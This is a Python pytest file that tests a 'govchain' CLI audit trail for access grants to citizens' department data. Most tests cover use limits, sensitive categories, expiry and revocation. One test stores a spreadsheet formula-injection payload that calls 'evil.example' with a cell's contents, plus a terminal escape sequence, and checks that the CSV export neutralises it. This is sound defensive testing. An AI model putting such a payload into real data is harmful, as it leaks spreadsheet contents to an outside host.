"""`govchain access record|list`: the audit trail that precedes every release of data."""

from __future__ import annotations

import csv
import io

import pytest

from tests.cli.conftest import CityRun, Run, assert_one_line_error
from tests.cli.sharing_fixtures import (  # noqa: F401
    SharingCity,
    advance,
    sharing_city_fixture,
    srun_fixture,
)

RECORD_KEYS = {
    "subject", "owner", "grantee", "category", "purpose", "purpose_hash", "member", "request_hash",
    "grant_id", "block", "timestamp", "time", "tx_hash",
}  # fmt: skip


def _grant(city: SharingCity, **kwargs: object) -> str:
    return "0x" + city.give(**kwargs).grant_id.hex()  # type: ignore[arg-type]


def test_record_under_a_grant_counts_uses_and_lists(
    srun: CityRun, sharing_city: SharingCity
) -> None:
    grant = _grant(sharing_city, categories=("HRSS.PENSION",), max_uses=2)
    data = srun.json(
        "--key", "civil-staff", "access", "record", grant, "--category", "HRSS.PENSION",
        "--request-hash", "0x" + "42" * 32,
    )  # fmt: skip
    assert set(data) == {"grant_id", "category", "request_hash", "tx_hash", "block"}
    assert data["request_hash"] == "0x" + "42" * 32
    assert srun.json("grant", "show", grant)["uses"] == 1
    text = srun("--key", "civil-staff", "access", "record", grant, "--category", "HRSS.PENSION")
    assert text.exit_code == 0 and text.stdout.startswith("access to HRSS.PENSION recorded")
    used = srun("--key", "civil-staff", "access", "record", grant, "--category", "HRSS.PENSION")
    assert_one_line_error(used, 1, f"grant {grant} has used all of its 2 uses")

    listed = srun.json("access", "list", "--subject", sharing_city.citizen.address)
    assert len(listed) == 2 and all(set(r) == RECORD_KEYS for r in listed)
    staff = sharing_city.city.departments["CIVIL"].staff.address
    assert listed[0] | {"purpose_hash": None, "timestamp": 0, "time": "", "tx_hash": ""} == {
        "subject": sharing_city.citizen.address,
        "owner": "HRSS",
        "grantee": "CIVIL",
        "category": "HRSS.PENSION",
        "purpose": None,  # made by a test helper, not through this home: text not known
        "purpose_hash": None,
        "member": staff,
        "request_hash": "0x" + "42" * 32,
        "grant_id": grant,
        "block": data["block"],
        "timestamp": 0,
        "time": "",
        "tx_hash": "",
    }
    assert listed[0]["tx_hash"] == data["tx_hash"]
    assert len(srun.json("access", "list", "--grant", grant, "--owner", "HRSS")) == 2
    assert srun.json("access", "list", "--grantee", "DPF") == []
    assert len(srun.json("access", "list", "--category", "HRSS.PENSION")) == 2
    lines = srun("access", "list").stdout.splitlines()
    assert len(lines) == 2 and "CIVIL<-HRSS  HRSS.PENSION" in lines[0]


def test_owner_wide_grants_skip_sensitive_categories(
    srun: CityRun, sharing_city: SharingCity
) -> None:
    grant = _grant(sharing_city, categories=("HRSS",))
    ok = srun("--key", "civil-staff", "access", "record", grant, "--category", "HRSS.PENSION")
    assert ok.exit_code == 0, ok.stderr
    sensitive = srun(
        "--key", "civil-staff", "access", "record", grant, "--category", "HRSS.MEDICAL"
    )
    assert_one_line_error(sensitive, 1, "does not cover category HRSS.MEDICAL: it is sensitive")
    not_shared = srun(
        "--key", "civil-staff", "access", "record", grant, "--category", "HRSS.INTERNAL"
    )
    assert_one_line_error(not_shared, 1, "HRSS.INTERNAL is NOT_SHARED")
    named = _grant(sharing_city, categories=("HRSS.PENSION",), nonce=9)
    other = srun("--key", "civil-staff", "access", "record", named, "--category", "HRSS.MEDICAL")
    assert_one_line_error(other, 1, f"grant {named} does not cover category HRSS.MEDICAL")


def test_the_client_refuses_a_category_reclassified_not_shared(
    srun: CityRun, sharing_city: SharingCity
) -> None:
    # AccessGrants.recordAccess does not read the catalog for a category the grant names (see
    # IAccessGrants): the check before sending is what refuses it here, not the contract.
    grant = _grant(sharing_city, categories=("HRSS.PENSION",))
    srun.json("--key", "hrss-admin", "catalog", "update", "HRSS.PENSION", "--sharing", "not-shared")
    result = srun("--key", "civil-staff", "access", "record", grant, "--category", "HRSS.PENSION")
    assert_one_line_error(result, 1, "HRSS.PENSION is NOT_SHARED")


def test_expired_revoked_and_wrong_member(srun: CityRun, sharing_city: SharingCity) -> None:
    grant = _grant(sharing_city, seconds=3600)
    record = ("access", "record", grant, "--category", "HRSS.PENSION")
    dpf = srun("--key", "dpf-staff", *record)
    assert_one_line_error(dpf, 1, "is not an active STAFF member of CIVIL")
    approver = srun("--key", "civil-approver1", *record)
    assert_one_line_error(approver, 1, "is not an active STAFF member of CIVIL")
    advance(srun.rpc or "", 7200)
    expired = srun("--key", "civil-staff", *record)
    assert_one_line_error(expired, 1, f"grant {grant} expired at 20")
    revoked = _grant(sharing_city, nonce=5)
    srun.json("--key", "citizen", "grant", "revoke", revoked)
    result = srun("--key", "civil-staff", "access", "record", revoked, "--category", "HRSS.PENSION")
    assert_one_line_error(result, 1, f"grant {revoked} was revoked")
    unknown = srun(
        "--key", "civil-staff", "access", "record", "0x" + "00" * 32, "--category", "HRSS.PENSION"
    )
    assert_one_line_error(unknown, 2, "not found")


def test_open_access_to_unconditional_data(srun: CityRun, sharing_city: SharingCity) -> None:
    data = srun.json(
        "--key", "dpf-staff", "access", "record", "--category", "HRSS.POLICY", "--purpose", "x"
    )
    assert data["grant_id"] is None
    listed = srun.json("access", "list", "--owner", "HRSS")
    assert listed[0]["grantee"] == "DPF" and listed[0]["grant_id"] == "0x" + "00" * 32
    assert listed[0]["subject"] == "0x" + "00" * 20
    conditional = srun(
        "--key", "dpf-staff", "access", "record", "--category", "HRSS.PENSION", "--purpose", "x"
    )
    assert_one_line_error(conditional, 1, "HRSS.PENSION is CONDITIONAL, not UNCONDITIONAL")
    citizen = srun(
        "--key", "citizen", "access", "record", "--category", "HRSS.POLICY", "--purpose", "x"
    )
    assert_one_line_error(citizen, 1, "is not an active STAFF member of any department")
    assert_one_line_error(
        srun("--key", "dpf-staff", "access", "record", "--category", "HRSS.POLICY"), 2, "--purpose"
    )


def test_an_officials_purpose_opens_in_a_spreadsheet_as_text(srun: CityRun) -> None:
    """The purpose of an open access is written by the department's official: in the CSV an
    auditor opens it cannot run as a formula or move the terminal's cursor (govchain.csvout);
    --json keeps the text as it was written."""
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"open")\x1b[2K'
    srun.json(
        "--key", "dpf-staff", "access", "record", "--category", "HRSS.POLICY", "--purpose", hostile
    )  # fmt: skip
    listed = srun.json("access", "list", "--grantee", "DPF")
    assert [r["purpose"] for r in listed] == [hostile]
    exported = srun("access", "list", "--grantee", "DPF", "--csv")
    assert exported.exit_code == 0 and "\x1b" not in exported.stdout
    header, row = csv.reader(io.StringIO(exported.stdout))
    assert row[header.index("purpose")] == "'" + hostile.replace("\x1b", "\\x1b")
    assert row[header.index("grantee")] == "DPF" and row[header.index("block")].isdigit()


def test_bad_input(srun: CityRun, monkeypatch: pytest.MonkeyPatch) -> None:
    assert_one_line_error(srun("access", "list", "--subject", "0xabc"), 2, "0xabc")
    assert_one_line_error(srun("access", "list", "--owner", "NOPE"), 2, "department NOPE")
    assert_one_line_error(srun("access", "list", "--category", "HRSS.NOPE"), 2, "HRSS.NOPE")
    record = ("access", "record", "--category", "HRSS.POLICY", "--purpose", "x")
    assert_one_line_error(srun("--key", "nobody", *record), 2, "key 'nobody' not found")
    monkeypatch.setenv("GOVCHAIN_PASSPHRASE", "wrong")
    assert_one_line_error(srun("--key", "dpf-staff", *record), 2, "wrong passphrase")


def test_devnet_down(offline: Run) -> None:
    assert_one_line_error(offline("access", "list"), 1, "network unavailable")
    record = ("access", "record", "0x" + "11" * 32, "--category", "HRSS.PENSION")
    assert_one_line_error(offline("--key", "civil-staff", *record), 1, "network unavailable")
